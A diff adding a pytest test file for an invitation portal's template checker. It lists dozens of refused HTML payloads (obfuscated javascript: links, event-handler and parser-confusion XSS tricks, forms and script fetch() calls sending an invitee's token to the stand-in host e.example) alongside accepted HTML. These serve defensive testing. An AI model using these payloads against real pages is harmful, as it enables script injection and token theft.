@@ -1,0 +1,177 @@
+"""What a layout or partial may hold as HTML: nothing that runs, loads or sends anything elsewhere, however it is written."""
+
+import pytest
+from portals import Portal
+from test_check import faults
+
+INVITATION = "Templates/layouts/invitation.mustache"
+ARTICLE = "Templates/layouts/article.mustache"
+PAGE = "Templates/layouts/page.mustache"
+SCRIPT = "Templates/assets/invitation.js"
+
+REFUSED = {
+    # Scripts.
+    "<script>fetch('//e.example/' + token)</script>": "a script can't stand in a template",
+    "<ScRiPt\n>x</sCrIpT>": "a script can't stand in a template",
+    "<script src=\"https://e.example/x.js\"></script>": "a script can't stand in a template",
+    "<script src=\"/assets/site.js\"></script>": "a script can't stand in a template",
+    "<script src=\"{{operator.website}}\"></script>": "a script can't stand in a template",
+    "<script type=\"module\">x</script>": "a script can't stand in a template",
+    "<script type=\"text/javascript\">x</script>": "a script can't stand in a template",
+    "<svg><script>x</script></svg>": "a script can't stand in a template",
+    "<script{{#byMail}} type=\"application/json\"{{/byMail}}>x</script>":
+        "an attribute of `<script>` may be missing or be there twice",
+    "<p onclick=\"x()\">a</p>": "the attribute `onclick` can't stand in a template",
+    "<p ONCLICK=x>a</p>": "the attribute `onclick` can't stand in a template",
+    "<img src=\"/assets/a.png\" alt=\"\"onerror=\"x\">": "the attribute `onerror` can't stand in a template",
+    "<img src=\"/a.png\"/onerror=\"x\">": "the attribute `onerror` can't stand in a template",
+    "<p onclick{{#byMail}} title{{/byMail}}=\"x\">a</p>": "the attribute `onclick` can't stand in a template",
+    "<a href=\"javascript:x\">a</a>": "`href` of <a> doesn't begin as a link can",
+    "<a href=\"JavaScript&colon;x\">a</a>": "`href` of <a> doesn't begin as a link can",
+    "<a href=\"&#106;avascript:x\">a</a>": "`href` of <a> doesn't begin as a link can",
+    "<a href=\" javascript:x\">a</a>": "`href` of <a> doesn't begin as a link can",
+    "<a href=\"java\tscript:x\">a</a>": "`href` of <a> doesn't begin as a link can",
+    "<a href=javascript:x>a</a>": "`href` of <a> doesn't begin as a link can",
+    "<a href=\"java{{#byMail}}x{{/byMail}}script:x\">a</a>": "`href` of <a> doesn't begin as a link can",
+    "<a href=\"{{#byMail}}#{{/byMail}}javascript:x\">a</a>": "`href` of <a> doesn't begin as a link can",
+    "<a href=\"data:text/html,x\">a</a>": "`href` of <a> doesn't begin as a link can",
+    "<svg><a xlink:href=\"javascript:x\"><path/></a></svg>": "`xlink:href` of <a> doesn't begin as a link can",
+    "<svg><animate attributeName=\"href\" values=\"javascript:x\"/></svg>": "`<animate>` can't stand in a template",
+    # What loads, frames or turns links around.
+    "<iframe src=\"/en/\"></iframe>": "`<iframe>` can't stand in a template",
+    "<object data=\"/x\"></object>": "`<object>` can't stand in a template",
+    "<embed src=\"/x\">": "`<embed>` can't stand in a template",
+    "<base href=\"https://e.example/\">": "`<base>` can't stand in a template",
+    "<style>@import 'https://e.example/x.css';</style>": "`<style>` can't stand in a template",
+    "<svg><style>@import 'x';</style></svg>": "`<style>` can't stand in a template",
+    "<meta http-equiv=\"refresh\" content=\"0;url=https://e.example/\">": "a <meta> speaks for the web server",
+    "<meta http-equiv=\"&#114;efresh\" content=\"0;url=https://e.example/\">": "a <meta> speaks for the web server",
+    "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">": "a <meta> speaks for the web server",
+    "<meta name=\"referrer\" content=\"unsafe-url\">": "a <meta> tells others where a page lies",
+    "<a href=\"https://e.example/\" referrerpolicy=\"unsafe-url\">a</a>":
+        "`referrerpolicy` of <a> tells others where a page lies",
+    "<link rel=\"stylesheet\" href=\"https://e.example/x.css\">": "a <link> loads something from elsewhere",
+    "<link rel=\"stylesheet\" href=\"//e.example/x.css\">": "a <link> loads something from elsewhere",
+    "<link rel=\"stylesheet\" href=\"/\\e.example/x.css\">": "a <link> loads something from elsewhere",
+    "<link rel=\"import\" href=\"/x\">": "a <link> can't be of this kind",
+    "<link rel=\"preload icon\" href=\"/x\">": "a <link> can't be of this kind",
+    "<link rel=\"&#115;tylesheet\" href=\"/x\">": "a <link> can't be of this kind",
+    "<img src=\"https://e.example/x.png\" alt=\"\">": "`src` of <img> loads something from elsewhere",
+    "<video poster=\"//e.example/x.png\"></video>": "`poster` of <video> loads something from elsewhere",
+    # Where forms go.
+    "<form action=\"https://e.example/\"></form>": "`action` of <form> sends a form elsewhere",
+    "<form action=\"//e.example/\"></form>": "`action` of <form> sends a form elsewhere",
+    "<form action=\"{{operator.website}}\"></form>": "`action` of <form> sends a form elsewhere",
+    "<form action=\"{{acceptTo}}@e.example\"></form>": "`action` of <form> sends a form elsewhere",
+    "<button formaction=\"mailto:x@e.example\">a</button>": "`formaction` of <button> sends a form elsewhere",
+    "<input type=\"image\" alt=\"\" src=\"/a.png\" formaction=\"//e.example\">": "`formaction` of <input> sends a form elsewhere",
+    # Tokens in links.
+    "<a href=\"https://e.example/?{{typed.token}}\">a</a>": "`href` of <a> holds what only the invitee may know",
+    "<a href=\"mailto:x@e.example?body={{typed.token}}\">a</a>": "`href` of <a> holds what only the invitee may know",
+    # What browsers read in another way than it looks, or where a section would make something of it.
+    "<!--><script>x</script>-->": "a `>` stands in an HTML comment",
+    "<!-- a --!><script>x</script> -->": "a `>` stands in an HTML comment",
+    "</ a=\"><script>x</script>\">": "an end tag holds more than a name",
+    "<title></titlex><a title=\"</title><script>x</script>\"></title>":
+        "a `<` stands in <title>, where no element can",
+    "<noscript><p title=\"</noscript><script>x</script>\">a</p></noscript>": "a `<` stands where no element can begin",
+    "<svg><![CDATA[ > <a title=\" ]]> <script>x</script> \"></svg>": "a declaration stands here",
+    "<p title = \"a\">a</p>": "there is a blank before `=`",
+    "<{{#byMail}} {{/byMail}}script>x</script>": "`{{#byMail}}` stands where HTML can't be cut",
+    "<scr{{#byMail}} x{{/byMail}}ipt>x</script>": "what a section prints in a tag isn't apart from what follows",
+    "<scr{{#byMail}} x {{/byMail}}ipt>x</script>": "what a section prints in a tag isn't apart from what follows",
+    "<p\n{{#byMail}}\non{{/byMail}} {{^byMail}}\nclick=\"x\"{{/byMail}}>":
+        "a line ends behind a section's tag inside of an element's tag",
+    "<p {{#byMail}}\non{{/byMail}}{{^byMail}}\nclick=\"x\"{{/byMail}}>": "a line ends behind a section's tag inside of an element's tag",
+    "<script type=\"application/json\"><!--<script></script>": "a `<` stands in <script>, where no element can",
+    "<xmp><a title=\"</xmp><p>\"></xmp>": "`<xmp>` can't stand in a template",
+}
+
+
+@pytest.mark.parametrize("html", REFUSED)
+def test_what_runs_or_leads_elsewhere_is_a_fault(portal, html):
+    """In the article of an invitation, where the token is."""
+    line = portal.read(ARTICLE).count("\n") + 1
+    portal.append(ARTICLE, html + "\n")
+    found = [fault for fault in faults(portal) if fault.message == REFUSED[html]]
+    assert found, faults(portal)
+    assert {fault.file for fault in found} == {ARTICLE}
+    assert all(line <= fault.line <= line + 2 for fault in found)
+
+
+@pytest.mark.parametrize("file", [INVITATION, PAGE, "Templates/layouts/ended-article.mustache",
+                                  "Templates/layouts/answer-article.mustache", "Templates/layouts/not-found.mustache",
+                                  "Templates/partials/answer-form.mustache", "Templates/partials/mark.mustache"])
+def test_in_every_layout_and_partial(portal, file):
+    portal.append(file, "<script>x</script>\n")
+    assert {fault.message for fault in faults(portal)} == {"a script can't stand in a template"}
+
+
+def test_partials_that_only_pages_use_are_looked_at(portal):
+    portal.append("Templates/partials/roles-table.mustache", "<p onclick=\"x\">a</p>\n")
+    portal.write("Templates/partials/unused.mustache", "<p onclick=\"x\">a</p>\n")
+    assert sorted(fault.file for fault in faults(portal) if "onclick" in fault.message) == [
+        "Templates/partials/roles-table.mustache", "Templates/partials/unused.mustache"]
+
+
+FINE = [
+    "<p title=\"a > b\">a &lt; b > c</p>",
+    "<!-- a comment -->",
+    "<a href=\"https://www.northlight.example/a?b=c&amp;d\">a</a>",
+    "<a href=\"/en/trust/\">a</a><a href=\"#in-en\">b</a><a href=\"trust/\">c</a><a href=\"trust\">d</a>",
+    "<a href=\"mailto:{{portal.email}}?subject={{invitee.name}}\">a</a>",
+    "<img src=\"/assets/a.png\" alt=\"\" width=10 height='10'>",
+    "<link rel=\"stylesheet\" href=\"/assets/own.css\"><link rel=author href=\"https://e.example/\">",
+    "<form action=\"/en/search/\"><button type=\"submit\" formaction=\"#\">a</button></form>",
+    "<meta name=\"referrer\" content=\"no-referrer\">",
+    "<svg viewBox=\"0 0 1 1\"><title>a</title><path d=\"M0 0\"/><use href=\"#a\"/></svg>",
+    "<script type=\"application/json\">{\"a\": \"{{operator.name}}\"}</script>",
+    "<input{{#byMail}} value=\"a\"{{/byMail}}{{^byMail}} value=\"b\"{{/byMail}} name=\"a\">",
+    "<p {{#byMail}}class=\"a\"{{/byMail}}>a</p>",
+    "<textarea>a &lt; b</textarea>",
+]
+
+
+@pytest.mark.parametrize("html", FINE)
+def test_plain_html_is_fine(portal, html):
+    portal.append(ARTICLE, html + "\n")
+    portal.run("check")
+
+
+@pytest.mark.parametrize("old, new", [
+    ("<meta http-equiv=\"Content-Security-Policy\" content=\"{{head.policy}}\">\n", ""),
+    ("<meta charset=\"utf-8\">", "<meta charset=\"utf-8\"><link rel=\"stylesheet\" href=\"/assets/own.css\">"),
+    ("{{^isAnswer}}\n<meta http-equiv", "{{#isAnswer}}\n<meta http-equiv"),
+])
+def test_an_invitation_says_first_what_it_loads(portal, old, new):
+    """Else a style sheet could tell others the token, letter by letter."""
+    text = portal.read(INVITATION)
+    assert old in text
+    portal.write(INVITATION, text.replace(old, new, 1))
+    [fault] = faults(portal)
+    assert fault.place == f"{INVITATION}:1:1"
+    assert fault.message == "the page of an invitation doesn't say first of all what it may load"
+
+
+# Which scripts run
+
+
+def test_a_build_names_a_script_that_changed(built):
+    message = (
+        f"warning: {SCRIPT} has changed since the last build, and it runs on the page of each open invitation\n"
+        "  Look through it before you deploy: it can read the code that an answer is given with.\n")
+    assert message not in built.run("build").stderr
+    built.append(SCRIPT, "// Somebody was here.\n")
+    built.append("Templates/assets/checklist.js", "// It runs on no invitation.\n")
+    assert built.run("build").stderr == message
+    assert built.run("build").stderr == ""
+
+
+def test_a_first_build_names_none(portal):
+    assert "has changed" not in portal.run("build").stderr
+
+
+def test_an_invitation_loads_its_own_script_and_no_other(sample):
+    for page in sample.invitation_pages():
+        scripts = [line for line in page.read_text("utf-8").split("\n") if "<script" in line]
+        assert len(scripts) <= 1 and all("/assets/invitation." in line for line in scripts)
